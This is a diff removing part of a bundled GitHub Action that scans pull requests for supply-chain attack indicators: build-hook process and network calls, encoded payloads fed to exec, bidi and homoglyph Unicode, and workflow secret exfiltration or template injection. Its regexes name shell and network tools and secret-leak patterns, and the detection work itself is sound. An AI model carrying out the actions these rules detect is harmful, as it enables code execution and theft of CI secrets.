-        source: `${file}:${ig.line}`,
-        kind: 'inSource'
-    }))));
-}
-/**
- * The allowlist of known fixtures and lines: matched on the SHA-256 of a
- * binary file's content or of a finding's trimmed line (`contentSha256`), so
- * an allowed file or line stays allowed wherever it moves.
- */
-function allowSuppressions(config) {
-    const allow = (config.sections['pr-anomaly-scan']?.allow ?? []);
-    return allow.map((a, i) => ({
-        ...(a.rule ? { rule: a.rule } : {}),
-        properties: { contentSha256: a.sha256 },
-        reason: a.reason,
-        ...(a.expires ? { expires: a.expires } : {}),
-        source: `${config.file ?? 'config'} pr-anomaly-scan.allow.${i} (sha256 ${a.sha256.slice(0, 12)})`
-    }));
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/lines.ts
-// What every rule over added lines shares: the hit it returns, how evidence
-// is shortened, which files are prose, the keyword pre-checks, and the
-// finding a hit becomes.
-
-
-const lines_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
-const PROSE_EXT = /\.(md|rst|txt|tex|html?|po|pot|svg|xml|csv|tsv|bib|ipynb)$/i;
-const isProse = (p) => PROSE_EXT.test(p);
-// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
-// keyword groups occur in a file's added text; the per-line patterns run only for those.
-const GROUPS = {
-    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
-    decompress: ['decompress', 'loads', 'Sync('],
-    chr: ['chr(', 'CharCode', '\\'],
-    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
-    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
-};
-const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
-function hitToFinding(path, h) {
-    return createFinding(h.rule, {
-        message: h.message,
-        severity: h.severity,
-        confidence: h.confidence,
-        location: { file: path, line: h.line.line },
-        evidence: h.evidence,
-        key: h.line.text.trim().slice(0, 500),
-        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
-        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
-    });
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/build.ts
-
-
-const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
-const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
-const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
-const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
-const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
-const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
-const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
-const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
-const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
-function buildHits(path, lines, all) {
-    const hits = [];
-    const name = path.split('/').pop();
-    const first = (re) => lines.find((l) => re.test(l.text));
-    if (name === 'setup.py') {
-        const hook = first(SETUP_HOOK);
-        const net = first(NETWORK);
-        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
-        const at = net ?? proc ?? hook;
-        if (at) {
-            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls']
-                .filter(Boolean)
-                .join(', ');
-            hits.push({
-                rule: rules_RULES.BUILD_SETUP_PY,
-                line: at,
-                message: `setup.py gains ${what}.`,
-                evidence: lines_short(at.text),
-                severity: net || proc ? 'high' : 'medium',
-                properties: { network: Boolean(net), process: Boolean(proc) }
-            });
-        }
-    }
-    else if (name === 'meson.build' || name === 'meson_options.txt') {
-        const at = first(MESON);
-        const net = first(NETWORK);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_NATIVE,
-                line: at,
-                message: 'Meson runs a command at configure or build time.',
-                evidence: lines_short(at.text),
-                severity: net ? 'high' : 'medium',
-                properties: { network: Boolean(net) }
-            });
-    }
-    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
-        const at = first(CMAKE);
-        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_NATIVE,
-                line: at,
-                message: 'CMake runs a command or downloads at configure time.',
-                evidence: lines_short(at.text),
-                severity: net ? 'high' : 'medium',
-                properties: { network: Boolean(net) }
-            });
-    }
-    else if (AUTOTOOLS_PATH.test(path)) {
-        const bad = first(AUTOTOOLS_BAD);
-        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
-        if (at) {
-            hits.push({
-                rule: rules_RULES.BUILD_AUTOTOOLS,
-                line: at,
-                message: bad
-                    ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
-                    : 'Autotools/m4 build logic changed.',
-                evidence: lines_short(at.text),
-                severity: bad ? 'critical' : 'medium',
-                confidence: bad ? 'high' : 'medium'
-            });
-        }
-    }
-    else if (TEST_HOOK_PATH.test(path)) {
-        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_TEST_HOOK,
-                line: at,
-                message: `${name} gains process, network or exec calls.`,
-                evidence: lines_short(at.text),
-                properties: { network: NETWORK.test(at.text) }
-            });
-    }
-    else if (name === 'pyproject.toml') {
-        const at = first(/^\s*(build-backend|backend-path)\s*=/);
-        if (at) {
-            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
-            hits.push({
-                rule: rules_RULES.BUILD_BACKEND,
-                line: at,
-                message: inTree
-                    ? 'The build backend is loaded from code inside the repository (`backend-path`).'
-                    : 'The build backend changes.',
-                evidence: lines_short(at.text),
-                severity: inTree ? 'high' : 'medium'
-            });
-        }
-    }
-    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
-        const at = first(/^\s*-?\s*repo:\s*local\b/);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_PRECOMMIT_LOCAL,
-                line: at,
-                message: 'A local pre-commit hook runs a command from the repository.',
-                evidence: lines_short(at.text)
-            });
-    }
-    else if (/\.pth$/.test(name)) {
-        const at = first(/^\s*import\s/) ?? lines[0];
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_PTH,
-                line: at,
-                message: at.text.trim().startsWith('import')
-                    ? 'The .pth file runs code at interpreter start-up.'
-                    : 'A .pth file was added.',
-                evidence: lines_short(at.text),
-                severity: /^\s*import\s/.test(at.text) ? 'high' : 'low'
-            });
-    }
-    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
-        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
-        if (at) {
-            hits.push({
-                rule: rules_RULES.BUILD_IMPORT_PROCESS,
-                line: at,
-                message: 'A process or thread starts at module level, i.e. on import.',
-                evidence: lines_short(at.text),
-                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
-            });
-        }
-    }
-    return hits;
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/obfuscation.ts
-
-
-const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
-const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
-const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
-const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
-const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
-const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
-const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
-const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
-const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
-function encodedRun(t) {
-    const b = B64_RUN.exec(t);
-    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
-        return b[0];
-    const h = HEX_RUN.exec(t);
-    return h?.[0];
-}
-function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
-    const hits = [];
-    const has = {
-        decode: hasKeyword(all, 'decode'),
-        decompress: hasKeyword(all, 'decompress'),
-        chr: hasKeyword(all, 'chr'),
-        packer: hasKeyword(all, 'packer')
-    };
-    const notebook = /\.ipynb$/.test(path);
-    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
-    const bundle = BUNDLE_PATH.test(path);
-    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
-    let sinkLine;
-    let decodeLine;
-    const encoded = [];
-    for (const l of lines) {
-        const t = l.text;
-        if (t.length < 8)
-            continue;
-        const run = t.length >= 160 ? encodedRun(t) : undefined;
-        if (run)
-            encoded.push({ line: l, run });
-        if (!dataFile) {
-            if (has.decode && !decodeLine && DECODE.test(t))
-                decodeLine = l;
-            if (has.decompress &&
-                DECOMPRESS.test(t) &&
-                (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
-                hits.push({
-                    rule: rules_RULES.OBF_DECOMPRESS,
-                    line: l,
-                    message: 'Inline data is decompressed or unmarshalled.',
-                    evidence: lines_short(t)
-                });
-            }
-            if (has.chr && CHR_CHAIN.test(t))
-                hits.push({
-                    rule: rules_RULES.OBF_CHR_CHAIN,
-                    line: l,
-                    message: 'A string is assembled from character codes.',
-                    evidence: lines_short(CHR_CHAIN.exec(t)[0])
-                });
-            if (has.packer && PACKER.test(t))
-                hits.push({ rule: rules_RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: lines_short(t) });
-        }
-    }
-    // Execution sinks matter only next to encoded or decoded data: looked for only then.
-    if (!dataFile && (encoded.length || decodeLine))
-        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
-    const chained = sinkLine && (encoded.length || decodeLine);
-    if (chained) {
-        const at = decodeLine ?? encoded[0].line;
-        hits.push({
-            rule: bundle ? rules_RULES.OBF_BUNDLE : rules_RULES.OBF_ENCODED_EXEC,
-            line: at,
-            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
-            evidence: lines_short(at.text),
-            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
-            confidence: encoded.length && decodeLine ? 'high' : 'medium',
-            properties: { sinkLine: sinkLine.line, sink: lines_short(sinkLine.text, 120) }
-        });
-    }
-    for (const { line, run } of encoded) {
-        if (chained && line === (decodeLine ?? encoded[0].line))
-            continue;
-        if (bundle) {
-            hits.push({
-                rule: rules_RULES.OBF_BUNDLE,
-                line,
-                message: `A ${run.length}-character encoded literal is added to a bundled file.`,
-                evidence: lines_short(run, 80),
-                severity: 'high',
-                confidence: 'medium'
-            });
-        }
-        else {
-            hits.push({
-                rule: rules_RULES.OBF_LONG_LITERAL,
-                line,
-                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
-                evidence: lines_short(run, 80),
-                confidence: notebook || dataFile ? 'low' : 'medium'
-            });
-        }
-    }
-    return hits;
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/unicode.ts
-
-
-const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
-const BIDI_MARKS = /[\u200e\u200f\u061c]/u;
-const RTL_LETTERS = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff]/u;
-// Invisible or blank look-alikes; ZWJ/ZWNJ and variation selectors are judged by their neighbours below.
-const unicode_INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
-const VS = /[\ufe00-\ufe0f]/u;
-const EMOJI_BASE = /[\p{Extended_Pictographic}\p{Emoji_Component}\u2000-\u2bff\u3030\u303d\u3297\u3299]/u;
-const CJK = /\p{Script=Han}/u;
-// Letters of Cyrillic and Greek that render like Latin ones.
-const CYR_CONFUSABLE = new Set([...'аеорсухіјѕԁԛԝһӏАВЕКМНОРСТХУІЈЅԜ']);
-const GRK_CONFUSABLE = new Set([...'οαινρτυχκΑΒΕΖΗΙΚΜΝΟΡΤΥΧ']);
-const WORD = /[\p{L}\p{M}\p{N}_]+/gu;
-function cp(c) {
-    return `U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
-}
-function unicodeHits(path, lines, all) {
-    const hits = [];
-    if (all !== undefined && !/[^\x00-\x7f]/.test(all))
-        return hits;
-    const code = !isProse(path);
-    for (const l of lines) {
-        const t = l.text;
-        if (!/[^\x00-\x7f]/.test(t))
-            continue;
-        const bidi = BIDI.exec(t);
-        if (bidi) {
-            hits.push({
-                rule: rules_RULES.UNI_BIDI,
-                line: l,
-                message: `${cp(bidi[0])} reorders how this line is displayed.`,
-                evidence: lines_short(t)
-            });
-            continue;
-        }
-        if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
-            const c = BIDI_MARKS.exec(t)[0];
-            hits.push({
-                rule: rules_RULES.UNI_BIDI,
-                line: l,
-                message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`,
-                evidence: lines_short(t),
-                severity: 'medium'
-            });
-            continue;
-        }
-        const inv = invisibleIn(t, code);
-        if (inv) {
-            hits.push({
-                rule: rules_RULES.UNI_INVISIBLE,
-                line: l,
-                message: `Invisible character ${cp(inv)} in an added line.`,
-                evidence: lines_short(t)
-            });
-            continue;
-        }
-        const glyph = homoglyphIn(t);
-        if (glyph)
-            hits.push({
-                rule: rules_RULES.UNI_HOMOGLYPH,
-                line: l,
-                message: glyph.message,
-                evidence: lines_short(t),
-                properties: { word: glyph.word }
-            });
-    }
-    return hits;
-}
-// Every character invisibleIn() may report; lines without one skip the per-character walk.
-const INVISIBLE_ANY = 
-// eslint-disable-next-line no-misleading-character-class
-/[\u200b-\u200d\u2060-\u2064\u00ad\u00a0\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff\ufe00-\ufe0f]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
-function invisibleIn(t, code) {
-    if (!INVISIBLE_ANY.test(t))
-        return undefined;
-    const chars = [...t];
-    for (let i = 0; i < chars.length; i++) {
-        const c = chars[i];
-        const prev = chars[i - 1] ?? '';
-        const next = chars[i + 1] ?? '';
-        if (c === '\ufeff' && i === 0)
-            continue; // a byte-order mark at the start of a file
-        if (unicode_INVISIBLE.test(c)) {
-            const n = c.codePointAt(0);
-            if (n >= 0xe0100 && CJK.test(prev))
-                continue; // ideographic variation sequences
-            if (n >= 0xe0000 && n <= 0xe007f && /[\u{1f3f4}\u{e0000}-\u{e007f}]/u.test(prev))
-                continue; // flag tag sequences
-            if (c === '\u00ad' && !code)
-                continue; // soft hyphens in prose
-            return c;
-        }
-        if (VS.test(c) && !EMOJI_BASE.test(prev))
-            return c;
-        if ((c === '\u200d' || c === '\u200c') &&
-            !(EMOJI_BASE.test(prev) && EMOJI_BASE.test(next)) &&
-            !/[\p{L}\p{M}]/u.test(prev))
-            return c;
-        if (c === '\u00a0' && code && !isProseLine(t))
-            return c;
-    }
-    return undefined;
-}
-/** Comments and strings in natural languages (French `«\u00a0»`) use NBSP; code tokens do not. */
-function isProseLine(t) {
-    return /^\s*(#|\/\/|\*|"""|''')/.test(t) && !/\u00a0(?=\S+\s*=)/.test(t) ? false : /[«»]|\u00a0[!?:;]/.test(t);
-}
-function homoglyphIn(t) {
-    if (!/[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(t))
-        return undefined;
-    // A line of real Cyrillic or Greek text (not only look-alikes) is language, not a disguise.
-    let cyrOther = false;
-    for (const [c] of t.matchAll(/\p{Script=Cyrillic}/gu))
-        if (!CYR_CONFUSABLE.has(c))
-            cyrOther = true;
-    for (const m of t.matchAll(WORD)) {
-        const w = m[0];
-        if (!/[^\x00-\x7f]/.test(w))
-            continue;
-        let latin = 0;
-        let cyr = 0;
-        let cyrConf = 0;
-        let grk = 0;
-        let grkConf = 0;
-        for (const c of w) {
-            if (/\p{Script=Latin}/u.test(c))
-                latin++;
-            else if (/\p{Script=Cyrillic}/u.test(c)) {
-                cyr++;
-                if (CYR_CONFUSABLE.has(c))
-                    cyrConf++;
-            }
-            else if (/\p{Script=Greek}/u.test(c)) {
-                grk++;
-                if (GRK_CONFUSABLE.has(c))
-                    grkConf++;
-            }
-        }
-        if (latin && cyrConf)
-            return { message: `"${w}" mixes Latin with Cyrillic look-alike letters.`, word: w };
-        if (latin && grkConf && grk === grkConf)
-            return { message: `"${w}" mixes Latin with Greek look-alike letters.`, word: w };
-        if (!latin && cyr && cyr === cyrConf && !cyrOther)
-            return { message: `"${w}" is written in Cyrillic letters that look Latin.`, word: w };
-    }
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
-
-
-
-
-/** Every line rule over one file's added lines. */
-function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
-    const lines = file.added;
-    if (!lines.length)
-        return [];
-    const hits = [
-        ...unicodeHits(file.path, lines, all),
-        ...obfuscationHits(file.path, lines, all),
-        ...buildHits(file.path, lines, all)
-    ];
-    return hits.map((h) => hitToFinding(file.path, h));
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/types.ts
-// What the scan reads from a checkout, and GitIO: the engine's only way to
-// read it. main.ts passes git.ts's implementation; tests may pass another.
-// A leaf: it imports nothing, so the engine and its rules depend on no
-// process-spawning code.
-/** The all-zero blob id git gives the missing side of an added or deleted file. */
-const isNullSha = (s) => /^0+$/.test(s);
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/workflows.ts
-// Workflow rules: only what the PR newly introduces (compared with the same
-// file at the base), because the job is to point at this change, not to
-// re-audit the repository (zizmor does that).
-
-
-
-
-const workflows_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
-/** Contexts an outside contributor controls (zizmor's "arbitrary" class, condensed). */
-const UNTRUSTED = /\bgithub\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|name|description)))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^}]*page_name|commits[^}]*\.(message|author)|head_commit\.(message|author)|workflow_run\.(head_branch|head_commit\.(message|author)|display_title|pull_requests)|client_payload|inputs\.[\w-]+))/;
-const PR_HEAD_REF = /github\.event\.(pull_request\.head\.(sha|ref)|workflow_run\.head_(sha|branch))|github\.head_ref|refs\/pull\/|pull\/\$\{\{|gh pr checkout/;
-const OUTSIDE_URL = /https?:\/\/(?!(?:[\w-]+\.)*(?:github\.com|githubusercontent\.com|pypi\.org|pythonhosted\.org|anaconda\.org|codecov\.io|readthedocs\.org|conda-forge\.org)\b)[\w.-]+/;
-const SEND = /\b(curl|wget|Invoke-WebRequest|nc|fetch|requests\.post|http\.request)\b/;
-const RUNNER_REG = /config\.(sh|cmd)\b[^\n]*--(url|token)|actions-runner-linux|\/actions\/runners\/registration-token|svc\.sh\s+install|run\.sh\s+&/;
-const PR_EVENTS = new Set([
-    'pull_request',
-    'pull_request_target',
-    'issue_comment',
-    'discussion',
-    'discussion_comment',
-    'pull_request_review',
-    'pull_request_review_comment',
-    'issues'
-]);
-/**
- * Events that anyone can start, with input they control, while the job keeps
- * the write scopes it is granted (unlike `pull_request` and the review events
- * from forks, whose token GitHub makes read-only).
- */
-const PRIVILEGED_UNTRUSTED = [
-    'pull_request_target',
-    'workflow_run',
-    'issue_comment',
-    'issues',
-    'discussion',
-    'discussion_comment'
-];
-/** Write scopes that reach code, releases, packages, signing identity or PRs: medium where they are not confined. */
-const SENSITIVE_SCOPES = new Set(['contents', 'actions', 'id-token', 'packages', 'pull-requests']);
-function workflows_triggers(y) {
-    const root = y.doc.contents;
-    const on = (0,dist/* isMap */.jh)(root) ? root.get('on', true) : undefined;
-    const out = new Set();
-    if ((0,dist/* isScalar */.jn)(on)) {
-        out.add(String(on.value));
-    }
-    else if ((0,dist/* isSeq */.oP)(on)) {
-        for (const i of on.items)
-            if ((0,dist/* isScalar */.jn)(i))
-                out.add(String(i.value));
-    }
-    else if ((0,dist/* isMap */.jh)(on)) {
-        for (const p of on.items)
-            out.add(String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key));
-    }
-    return out;
-}
-function workflows_parse(text, file) {
-    const y = yaml_parseYamlFile(text, file);
-    return { y, on: workflows_triggers(y), text };
-}
-/** Every scalar under `node` with its key path, for scripts, `runs-on` and permissions. */
-function* workflows_scalars(node, path = []) {
-    if ((0,dist/* isMap */.jh)(node)) {
-        for (const p of node.items)
-            yield* workflows_scalars(p.value, [...path, String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key)]);
-    }
-    else if ((0,dist/* isSeq */.oP)(node)) {
-        let i = 0;
-        for (const n of node.items)
-            yield* workflows_scalars(n, [...path, String(i++)]);
-    }
-    else if ((0,dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined) {
-        yield { path, node: node, value: String(node.value) };
-    }
-}
-const isWriteGrant = (s) => s.path.includes('permissions') && (s.value === 'write-all' || s.value === 'write');
-const grantKey = (s) => `${s.path.join('\0')}\0${s.value}`;
-/**
- * How much a new write grant matters. `write-all`, and a sensitive scope at
- * the workflow level (every job, present and future, gets it), are medium. A
- * scope granted to one job is what the rule's own remediation asks for, so it
- * is low, unless the workflow runs on an event that hands outside input to a
- * privileged token: there the job's write token is the attacker's (medium).
- */
-function writeGrant(owner, scope, value, untrusted, isNewGrant) {
-    const where = owner.length === 0
-        ? 'at the workflow level (every job gets it)'
-        : owner[0] === 'jobs' && owner.length === 2
-            ? `for job \`${owner[1]}\``
-            : `under \`${owner.join('.')}\``;
-    const on = untrusted.length ? `, on \`${untrusted.join('`, `')}\` (anyone can start it with input they control)` : '';
-    const what = value === 'write-all' ? '`permissions: write-all` (every write scope)' : `\`${scope}: write\` permission`;
-    const message = isNewGrant
-        ? `New ${what} ${where}${on}.`
-        : `Existing ${what} ${where} is now reachable through the new trigger${on}.`;
-    const medium = value === 'write-all' || (SENSITIVE_SCOPES.has(scope) && (owner.length === 0 || untrusted.length > 0));
-    return { message, severity: medium ? 'medium' : 'low' };
-}
-function scanWorkflow(file, baseText, headText) {
-    const parsed = parseBoth(workflows_parse, file, baseText, headText);
-    if ('error' in parsed)
-        return { findings: [], error: parsed.error };
-    const { head, base } = parsed;
-    const findings = [];
-    const isNew = (s) => !base || !base.text.includes(s);
-    const at = (node) => head.y.pos(node);
-    const add = (rule, node, message, evidence, extra = {}) => findings.push(createFinding(rule, {
-        message,
-        evidence: workflows_short(evidence),
-        location: { file, ...(node ? at(node) : { line: 1 }) },
-        key: evidence,
-        ...extra
-    }));
-    const all = [...workflows_scalars(head.y.doc.contents)];
-    const scripts = all.filter((s) => s.path.at(-1) === 'run' || (s.path.at(-1) === 'script' && s.path.at(-2) === 'with'));
-    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => head.on.has(t));
-    const prReachable = [...head.on].some((t) => PR_EVENTS.has(t));
-    const untrusted = PRIVILEGED_UNTRUSTED.filter((t) => head.on.has(t));
-    // Write grants compared by place, not by text: moving `contents: write` from a job to the workflow level is new.
-    const baseGrants = new Set(base ? [...workflows_scalars(base.y.doc.contents)].filter(isWriteGrant).map(grantKey) : []);
-    // A grant the base already had is reported again when the PR adds an event that exposes it.
-    const newlyUntrusted = untrusted.some((t) => !base?.on.has(t));
-    // pull_request_target / workflow_run that checks out or runs the PR head.
-    if (privileged.length) {
-        const usesHead = all.find((s) => PR_HEAD_REF.test(s.value) &&
-            (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
-        const newTrigger = privileged.some((t) => !base?.on.has(t));
-        if (usesHead && (newTrigger || isNew(usesHead.value))) {
-            add(rules_RULES.WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
-        }
-        else if (newTrigger) {
-            add(rules_RULES.WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
-                severity: 'medium',
-                confidence: 'low'
-            });
-        }
-    }
-    for (const s of scripts) {
-        for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
-            if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
-                add(rules_RULES.WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
-            }
-        }
-        if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
-            add(rules_RULES.WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
-    }
-    // Secrets and an outside URL in the same job.
-    const root = head.y.doc.contents;
-    const jobs = (0,dist/* isMap */.jh)(root) ? root.get('jobs', true) : undefined;
-    if ((0,dist/* isMap */.jh)(jobs)) {
-        for (const job of jobs.items) {
-            const js = [...workflows_scalars(job.value)];
-            const secret = js.find((s) => /\$\{\{[^}]*\bsecrets\.(?!GITHUB_TOKEN\b)\w+/.test(s.value) || /toJSON\(\s*secrets\s*\)/.test(s.value));
-            const url = js.find((s) => (s.path.at(-1) === 'run' || s.path.at(-2) === 'with') &&
-                OUTSIDE_URL.test(s.value) &&
-                (s.path.at(-1) !== 'run' || SEND.test(s.value)));
-            if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
-                add(rules_RULES.WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
-            }
-            const runsOn = js.filter((s) => s.path[0] === 'runs-on');
-            const kind = classifyRunsOn(runsOn.map((s) => s.value));
-            const selfHosted = kind === 'self-hosted'
-                ? runsOn.find((s) => s.value.trim().toLowerCase() === 'self-hosted')
-                : kind === 'custom'
-                    ? runsOn[0]
-                    : undefined;
-            if (selfHosted &&
-                prReachable &&
-                (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
-                add(rules_RULES.WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
-            }
-        }
-    }
-    for (const s of all) {
-        if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
-            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
-        if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
-            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
-        const permIdx = s.path.lastIndexOf('permissions');
-        if (permIdx >= 0) {
-            const scope = s.path.slice(permIdx + 1).join('.');
-            const written = scope ? `${scope}: ${s.value}` : `permissions: ${s.value}`;
-            const isNewGrant = !baseGrants.has(grantKey(s));
-            if (isWriteGrant(s) && (isNewGrant || newlyUntrusted)) {
-                const { message, severity } = writeGrant(s.path.slice(0, permIdx), scope, s.value, untrusted, isNewGrant);
-                add(rules_RULES.WF_PERMISSIONS, s.node, message, written, { severity });
-            }
-        }
-    }
-    for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
-        if (head.on.has(t) && !base?.on.has(t) && scripts.length)
-            add(rules_RULES.WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
-    }
-    const baseUses = new Set(base ? findUses(base.y).map((u) => u.raw) : []);
-    for (const u of findUses(head.y)) {
-        if (u.kind === 'local' || baseUses.has(u.raw))
-            continue;
